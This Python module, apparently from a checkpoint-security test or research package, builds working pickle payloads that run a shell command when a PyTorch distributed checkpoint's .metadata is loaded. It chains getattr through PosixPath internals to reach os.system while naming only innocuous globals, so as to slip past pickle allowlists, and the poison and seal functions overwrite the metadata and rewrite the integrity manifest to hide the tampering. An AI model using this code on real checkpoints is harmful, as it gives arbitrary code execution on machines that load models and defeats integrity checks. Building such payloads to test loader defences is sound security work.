"""Checkpoints that run a command where they are read by pickle itself, and what is needed to hide it."""

import pickle
import sys
from dataclasses import replace
from pathlib import Path, PosixPath
from typing import Any

from torch.distributed.checkpoint import FileSystemReader

from nemo_bt.checkpoint.manifest import MANIFEST, facts_of, files_of, write_manifest
from nemo_bt.cpu.device import leave_out_extension


class Taken:
    """Pickled as getattr(owner, name), as early releases of Python 3.11 pickle members of enumerations."""

    def __init__(self, owner: Any, name: str, state: dict[str, Any] | None = None) -> None:
        self.reduced = (getattr, (owner, name), *([state] if state else []))

    def __reduce__(self) -> Any:
        return self.reduced


def running(command: str) -> list[Any]:
    """What runs a shell command when pickle loads it, and names getattr and PosixPath alone."""
    owner: Any = PosixPath
    for name in ("_flavour", "pathmod") if sys.version_info < (3, 12) else ("_flavour",):
        owner = Taken(owner, name)
    system = Taken(Taken(owner, "os"), "system")
    return [Taken(owner, "os", {"fspath": system}), _Path(command)]  # a path asks os.fspath what it is made of


class _Path:
    def __init__(self, text: str) -> None:
        self.text = text

    def __reduce__(self) -> Any:
        return PosixPath, (self.text,)


def poison(checkpoint: Path, command: str) -> None:
    """Have `.metadata` of a checkpoint run a command; the manifest agrees with it."""
    leave_out_extension()  # the records are Megatron's, whose import it belongs to
    metadata = FileSystemReader(checkpoint / "weights").read_metadata()
    (checkpoint / "weights" / ".metadata").write_bytes(pickle.dumps(replace(metadata, planner_data=running(command))))
    seal(checkpoint)


def seal(checkpoint: Path) -> None:
    """Write the manifest of what is there now, as who changed a file would."""
    if (checkpoint / MANIFEST).exists():
        write_manifest(checkpoint, facts_of(checkpoint, files_of(checkpoint)))
